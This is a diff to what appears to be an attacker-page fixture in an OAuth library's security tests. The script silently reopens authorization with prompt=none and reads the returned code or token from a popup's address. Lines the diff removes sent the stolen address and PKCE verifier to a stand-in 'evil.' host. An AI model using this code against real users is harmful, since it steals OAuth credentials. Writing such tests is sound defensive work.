@@ -1,3 +1,5 @@
+import { report } from "./report.ts";
+import { addressWithAnswer } from "./window-address.ts";
 import { randomToken } from "../../../src/oauth/random.ts";
 import { challengeFor } from "../print/requests.ts";
 import { withQuery } from "../../../src/oauth/wire.ts";
@@ -5,7 +7,6 @@ import { withQuery } from "../../../src/oauth/wire.ts";
 // Runs in a page of a signed-in user. At the next click, which lets it open a window, it asks for a new answer without a
 // question to the user, and reads the window's address as soon as that is of the page's own origin again.
 
-const evil = location.origin.replace("print.", "evil.");
 const { dataset } = document.currentScript ?? document.documentElement;
 const { request = "", pkce } = dataset;
 
@@ -16,29 +17,12 @@ async function ask(): Promise<void> {
   const opened = window.open("about:blank", "silent", "popup");
   const verifier = randomToken();
   const challenge = pkce === "true" ? await challengeFor(verifier) : {};
-  if (opened === null) return report("no window", "");
+  if (opened === null) return report("no window");
   opened.location.href = withQuery(request, { ...challenge, prompt: "none", state: "mallory" });
   const timer = setInterval(() => {
-    const address = addressOf(opened);
+    const address = addressWithAnswer(opened);
     if (address === undefined) return;
     clearInterval(timer);
-    report(address, verifier);
+    report(JSON.stringify({ address, verifier }));
   }, 5);
-}
-
-/** Where the window stands, or stood when it was loaded; nothing while it is at another origin. */
-function addressOf(opened: Window): string | undefined {
-  try {
-    const [loaded] = opened.performance.getEntriesByType("navigation");
-    return [opened.location.href, loaded?.name ?? ""].find((one) =>
-      /[?#&](code|access_token|error)=/.test(one),
-    );
-  } catch {
-    return undefined;
-  }
-}
-
-function report(address: string, verifier: string): void {
-  const body = JSON.stringify({ address, verifier });
-  void fetch(`${evil}/collect`, { method: "POST", mode: "no-cors", body });
 }
